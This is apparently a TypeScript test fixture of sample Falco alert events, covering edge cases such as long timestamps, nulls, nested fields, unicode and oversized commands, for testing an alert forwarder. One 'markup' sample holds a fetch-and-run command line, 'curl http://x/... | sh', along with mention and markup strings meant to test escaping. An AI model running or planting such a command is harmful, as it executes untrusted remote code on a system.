/** Twelve events, as Falco would post them, that between them have everything that payloads go wrong over. */

const fields = (members: string): string => `{"container.id":"4f8e0c1d2b3a","proc.name":"bash"${members}}`

const event = (members: {
  readonly fields: string
  readonly output?: string
  readonly rule?: string
  readonly priority?: string
  readonly time?: string
  readonly source?: string
  readonly tags?: string
  readonly hostname?: string | null
}): string =>
  [
    `{"output":${JSON.stringify(members.output ?? '12:00:00.123456789: Notice A shell was spawned (user=root)')}`,
    `"priority":"${members.priority ?? 'Notice'}"`,
    `"rule":${JSON.stringify(members.rule ?? 'Terminal shell in container')}`,
    `"time":"${members.time ?? '2026-01-31T12:00:00.123456789Z'}"`,
    `"output_fields":${members.fields}`,
    `"source":"${members.source ?? 'syscall'}"`,
    ...(members.tags === '' ? [] : [`"tags":${members.tags ?? '["container","mitre_execution","shell"]'}`]),
    ...(members.hostname === null ? [] : [`"hostname":${JSON.stringify(members.hostname ?? 'node-1')}`]),
  ].join(',') + '}'

/** By name: the text that is posted. */
export const EVENTS: Readonly<Record<string, string>> = {
  plain: event({
    fields: fields(',"k8s.ns.name":"default","k8s.pod.name":"web-1","proc.pid":4711,"evt.time":1769860800'),
  }),
  'a time of 19 digits': event({
    fields: fields(',"evt.time":1769860800123456789,"proc.pid":4711'),
    priority: 'Warning',
  }),
  null: event({ fields: fields(',"k8s.ns.name":null,"k8s.pod.name":null,"user.name":null'), priority: 'Error' }),
  nested: event({
    fields: fields(',"proc.args":["a",["b",null,1]],"ka.req":{"z":{"a":[1,2.50,1e3]},"b":"<x>"}'),
    priority: 'Critical',
  }),
  booleans: event({ fields: fields(',"proc.is_exe_writable":true,"fd.nat":false'), priority: 'Alert' }),
  unicode: event({
    fields: fields(',"proc.cmdline":"écho 規則 🦉"'),
    output: '12:00:00.123456789: Emergency 規則 🦉 ñ',
    rule: 'Règle 規則 🦉',
    hostname: 'nœud-1',
    priority: 'Emergency',
  }),
  'no tags and no hostname': event({ fields: fields(''), tags: '', hostname: null, priority: 'Informational' }),
  'empty tags and texts': event({ fields: fields(',"user.name":""'), tags: '[]', hostname: '', priority: 'Debug' }),
  'over 4,096 bytes': event({
    fields: fields(`,"proc.cmdline":"${'x'.repeat(5_000)}"`),
    output: `12:00:00.123456789: Notice A long command (command=${'x'.repeat(5_000)})`,
  }),
  markup: event({
    fields: fields(',"proc.cmdline":"sh -c \\"curl http://x/?a=1&b=2 | sh\\"","fd.name":"a,b=c d"'),
    output: '12:00:00.123456789: Warning <!channel> *bold* `code` @everyone "quoted" | a=b,c\nsecond line',
    rule: 'Write below <etc> & "more"',
    priority: 'Warning',
  }),
  'an offset': event({ fields: fields(''), time: '2026-01-31T14:00:00.1+02:00', tags: '["b","a"]' }),
  'an audit event': event({
    fields:
      '{"ka.user.name":"admin","ka.verb":"create","ka.target.namespace":"shop","ka.target.name":"pod-1","jevt.time":"12:00"}',
    output: '12:00:00.123456789: Warning Pod created in shop',
    rule: 'K8s Pod Created',
    source: 'k8s_audit',
    priority: 'Warning',
    tags: '["k8s"]',
  }),
}
